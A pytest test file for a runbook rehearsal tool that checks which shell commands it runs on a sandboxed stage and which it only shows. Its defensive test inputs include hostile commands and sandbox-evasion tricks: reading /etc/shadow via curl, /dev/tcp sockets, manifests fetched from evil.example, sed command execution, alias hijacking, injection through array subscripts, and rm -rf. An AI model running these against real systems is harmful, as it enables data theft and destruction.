"""What may run on the stage, and what is only shown."""

import msgspec
import pytest

from runbook_tui.document.reader import read
from runbook_tui.rehearsal.rules import BadRules, CommandRule, Ending, Rules
from runbook_tui.rehearsal.rules import read as read_rules
from runbook_tui.rehearsal.staging import Act, Stage, staged

ENCLOSED = Stage(enclosed=True, kube=False, ports=frozenset({8400}), files=frozenset({"scripts/deploy.py", "run.sh"}))
OPEN = Stage(enclosed=False, ports=frozenset({8400}), files=ENCLOSED.files)
RULES = Rules()


def command(text):
    found = read(f"# T\n\n```bash\n{text}\n```\n".encode(), "t.md").commands
    assert len(found) == 1, [one.text for one in found]
    return found[0]


@pytest.mark.parametrize(
    "text",
    [
        "rbt lab weights v1=90 v2=10",
        "requests=100",
        "notes=$(mktemp -d)",
        'cd "$notes"',
        "grep -c error app.log | sort",
        "curl -fsS http://127.0.0.1:8400/health",
        "export MODE=canary",
    ],
)
def test_what_reaches_nothing_runs_anywhere(text):
    assert staged(command(text), RULES, ENCLOSED).act is Act.RUN
    assert staged(command(text), RULES, OPEN).act is Act.RUN


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /var/lib/app",
        "cp config.yml /etc/app/",
        "echo x > /etc/app.conf",
        "python scripts/deploy.py --all",
        "./run.sh",
        "curl http://localhost:9999/health",
        "sed -i s/a/b/ conf",
        "source ~/.profile",
    ],
)
def test_what_writes_runs_only_where_files_are_out_of_reach(text):
    assert staged(command(text), RULES, ENCLOSED).act is Act.RUN
    found = staged(command(text), RULES, OPEN)
    assert found.act is Act.WOULD, text
    assert found.why


@pytest.mark.parametrize(
    "text",
    [
        "curl http://localhost:8400/ prod.example.com",
        "curl -x prod:80 http://localhost:8400/",
        "curl -K f http://localhost:8400/",
        "curl -o out http://localhost:8400/",
        "curl --output=out http://localhost:8400/",
        "curl -sSfoout http://localhost:8400/",
        "curl -d @/etc/shadow http://localhost:8400/",
        "curl -T f http://localhost:8400/",
        "curl --unix-socket /run/docker.sock http://localhost:8400/",
        "curl --connect-to ::prod:80 http://localhost:8400/",
        "curl http://localhost:8400@prod.example.com/",
        "curl 'http://{localhost:8400,prod}/'",
        "curl http://localhost:8400/ --next http://prod/",
        "http_proxy=http://prod:80 curl http://localhost:8400/",
        "export HTTPS_PROXY=http://prod:80",
        "export KUBECONFIG=/root/.kube/config",
        "export RBT_STATE=/srv/rbt; rbt lab remove v2",
        "env RBT_STATE=/srv/rbt rbt lab remove v2",
        "wget -O f http://localhost:8400/",
        "wget http://localhost:8400/",
        "wget -i list http://localhost:8400/",
        "cat < /dev/tcp/10.0.0.1/80",
        "cat < /dev/'tcp'/10.0.0.1/80",
        "f=/dev/tc; cat < ${f}p/10.0.0.1/80",
        "kubectl -s https://prod get pods",
        "kubectl --server=https://prod get pods",
        "kubectl --token=x delete ns a",
        "kubectl apply -f https://evil.example/x.yml",
        "kubectl cp pod:/x /etc/x",
        "kubectl exec pod -- sh",
        "kubectl --cache-dir /etc get pods",
        "sed 'w F' a",
        "sed -n '1e ssh prod' a",
        "sed '1,3w F' a",
        "sed 's/a/ssh prod/e' a",
        "sed 's/a/b/w F' a",
        "sed --in-place s/a/b/ a",
        "sed -ni p a",
        "sed -f script a",
        "x=-i; sed $x s/a/b/ a",
        "sort -o F a",
        "sort -uoF a",
        "sort --output=F a",
        "sort --compress-program=./x a",
        'sort "$options" a',
        "uniq A B",
        "hostname NEW",
        "hostname -F f",
        "date -s tomorrow",
        "date --set=tomorrow",
        "date 112217002026",
        "env -S 'ssh prod'",
        "env --split-string='ssh prod'",
        "env -S 'ssh prod' ls",
        "env -C /x ls",
        "file -C -m x",
        "mktemp -d /etc/x.XXXXXX",
        "mktemp -p /etc",
        "declare x='a[$(ssh prod)]'",
        "x=$'a[\\x24(ssh prod)]'",
        "[[ $x -eq 1 ]] && echo yes",
        "echo $((x + 1))",
        '[ -v "$x" ]',
        'unset "$x"',
        'printf -v "$x" y',
        "ls() { ssh prod; }; ls",
        "alias ls='ssh prod'",
        "rbt lab save /etc/x",
        "rbt lab up kube --kube-context prod",
        "ls $(ssh prod)",
        "diff <(ssh prod cat a) b",
        "l=ssh; $l prod",
        "echo x >| /etc/f",
        "echo x <> /etc/f",
        "cat a 1<>/etc/f",
    ],
)
def test_without_walls_nothing_real_gets_out(text):
    stage = msgspec.structs.replace(OPEN, kube=True)
    # each is a command of its own document: what is no shell command at all is not offered, which is as good
    for one in read(f"# T\n\n```bash\n{text}\n```\n".encode(), "t.md").commands:
        found = staged(one, RULES, stage)
        assert found.act is Act.WOULD, (text, found.why)


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsS -m 3 -o /dev/null -w '%{http_code}' http://localhost:8400/health?x=1",
        "curl -s http://127.0.0.1:8400/metrics | grep errors | sort -nr -k2 | head -3",
        "wget -qO- http://127.0.0.1:8400/health",
        "sed -n '2,5p' app.log",
        "sed -E 's/a+/b/g' app.log | uniq -c",
        "sort -t: -k2 app.log",
        "date -u +%FT%TZ",
        "date -d yesterday +%F",
        'date -r "$notes" +%s',
        "hostname -f",
        "env | sort",
        "timeout 5 cat app.log",
        "kubectl -n prod get pods -o wide",
        "kubectl rollout undo deployment/api --to-revision=2",
        "for i in 1 2 3; do echo $((i * 2)); done",
        "for i in $(seq 1 5); do sleep 0.1; done",
        'grep -c "$word" app.log',
        '[ "$x" -gt 1 ] && echo yes',
        "rbt lab deploy v2 --within 1",
        "rbt lab check --requests 20 --max-errors 1",
        "tail -n 5 app.log 2>/dev/null || true",
    ],
)
def test_what_only_looks_at_the_stage_runs_without_walls(text):
    stage = msgspec.structs.replace(OPEN, kube=True)
    found = staged(command(text), RULES, stage)
    assert found.act is Act.RUN, (text, found.why)


@pytest.mark.parametrize("text", ["hostname NEW", "date -s tomorrow", "kubectl -s https://prod get pods"])
def test_what_sets_this_machine_or_goes_elsewhere_is_only_shown_behind_walls_too(text):
    assert staged(command(text), RULES, msgspec.structs.replace(ENCLOSED, kube=True)).act is Act.WOULD


@pytest.mark.parametrize(
    ("text", "missing"),
    [
        ("kubectl apply -f x.yml", "kubectl"),
        ("docker build -t a .", "docker"),
        ("ssh prod-1 systemctl restart api", "ssh"),
        ("scp a b@c:/tmp/", "scp"),
        ("sudo systemctl stop api", "sudo"),
        ("aws s3 rm s3://bucket/key", "aws"),
        ("curl https://api.example.com/health", "curl"),
        ("wget http://10.0.0.1/x", "wget"),
        ("python scripts/other.py", "python"),
        ("python3 -c 'import os; os.remove(\"/x\")'", "python3"),
        ("for h in a b; do ssh $h true; done", "ssh"),
        ("echo $(kubectl get pods)", "kubectl"),
        ("cat list | xargs -n1 docker rm", "xargs"),
        ("env FOO=1 terraform apply", "terraform"),
        ("/usr/local/bin/deploy", "deploy"),
        ("bash -c 'kubectl delete ns x'", "bash"),
        ("rbt rollback brave-otter --yes", "rbt"),
        ("nice -n 5 docker ps", "docker"),
        ("timeout 5 ssh x true", "ssh"),
        ("trap 'docker ps' EXIT", "trap"),
        ("kill -9 1", "kill"),
        ("eval $X", "eval"),
        ("$RUN now", "$RUN"),
        ("exec docker ps", "exec"),
        ("command docker ps", "command"),
        ("find / -delete", "find"),
        ("curl -d @f $URL http://127.0.0.1:8400/", "curl"),
        ("curl http://127.0.0.1:8400/ https://evil.example/", "curl"),
    ],
)
def test_what_could_reach_something_is_only_shown(text, missing):
    found = staged(command(text), RULES, ENCLOSED)
    assert found.act is Act.WOULD, text
    assert missing in found.missing


def test_kubectl_runs_where_the_stage_has_a_cluster_but_not_against_another():
    stage = msgspec.structs.replace(ENCLOSED, kube=True)
    assert staged(command("kubectl rollout undo deployment/api"), RULES, stage).act is Act.RUN
    for option in ("--context prod", "--kubeconfig=/x", "--server https://x"):
        assert staged(command(f"kubectl {option} get pods"), RULES, stage).act is Act.WOULD


def test_the_first_rule_that_fits_counts():
    rules = Rules(
        commands=(
            CommandRule(match="docker push *", would=True),
            CommandRule(match="docker *", run="rbt lab build service:2"),
        )
    )
    assert staged(command("docker push x"), rules, ENCLOSED).act is Act.WOULD
    found = staged(command("docker build \\\n  -t x ."), rules, ENCLOSED)
    assert (found.act, found.text) == (Act.INSTEAD, "rbt lab build service:2")


def test_without_walls_a_rule_of_the_document_is_judged_like_a_command():
    rules = Rules(
        commands=(CommandRule(match="docker *", run="rm -rf ~"), CommandRule(match="helm *", run="rbt lab deploy v2"))
    )
    assert staged(command("docker build x"), rules, ENCLOSED).act is Act.INSTEAD
    assert staged(command("docker build x"), rules, OPEN).act is Act.WOULD
    assert staged(command("helm upgrade x y"), rules, OPEN).act is Act.INSTEAD


def test_what_never_ends_or_wants_a_terminal_is_only_shown():
    assert staged(command("watch ls"), RULES, ENCLOSED).act is Act.WOULD
    assert staged(command("vi notes.txt"), RULES, ENCLOSED).act is Act.WOULD


def test_rules_come_from_front_matter_and_the_sidecar_wins():
    front = {"rbt": {"rehearse": {"faster": 10, "parts": ["store"]}}}
    sidecar = {"rehearse": {"faster": 50, "expect": {"crash": "rolled back"}}}
    found = read_rules(front, sidecar)
    assert (found.faster, found.parts, found.expect) == (50, ("store",), {"crash": Ending.ROLLED_BACK})
    assert read_rules({}, None) == Rules()
    for bad in ({"rehearse": 3}, {"rehearse": {"nonsense": 1}}, {"rehearse": {"faster": 0}}):
        with pytest.raises(BadRules, match="rehearse"):
            read_rules(bad, None)


def test_targets_are_matched_by_pattern():
    rules = Rules(targets={"db-*": "ssh", "*": "would"})
    assert (rules.target("db-7"), rules.target("x")) == ("ssh", "would")
    assert Rules().target("x") is None
